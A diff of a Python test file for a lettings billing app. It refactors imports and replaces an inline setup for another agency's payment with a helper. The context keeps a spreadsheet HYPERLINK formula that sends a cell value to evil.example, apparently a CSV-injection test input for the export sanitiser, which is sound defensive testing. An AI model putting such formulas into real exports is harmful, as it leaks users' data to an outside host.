@@ -15,7 +15,15 @@ from doorstep.agencies.models import Agency, StaffRole
 from doorstep.billing.models import Invoice
 from doorstep.core.csv_export import safe_text
 from doorstep.payments.ledger.models import PaymentStatus
-from tests.collections.builders import card_payment, invoice, named_tenant, pay, refund, void
+from tests.collections.builders import (
+    card_payment,
+    invoice,
+    named_tenant,
+    paid_elsewhere,
+    pay,
+    refund,
+    void,
+)
 from tests.factories import Factory
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -80,23 +88,7 @@ async def book(factory: Factory) -> Book:
         status=PaymentStatus.FAILED,
     )
 
-    other = await factory.agency("Other Lettings")
-    other_staff = await factory.staff(other, StaffRole.ACCOUNTANT)
-    other_ann = await named_tenant(factory, other, "Ann", "Archer")
-    other_lease = await factory.lease(other, [other_ann])
-    other_invoice = await invoice(
-        factory, other, other_lease, other_staff, due=date(2026, 11, 1), amount=77_700
-    )
-    await pay(
-        factory,
-        other,
-        other_staff,
-        other_lease,
-        other_ann,
-        amount=77_700,
-        allocations=[(other_invoice, 77_700)],
-        reference="OTHER-AGENCY",
-    )
+    await paid_elsewhere(factory, "Ann", "Archer")
     viewer = await factory.staff(agency, StaffRole.VIEWER)
     return Book(
         agency,
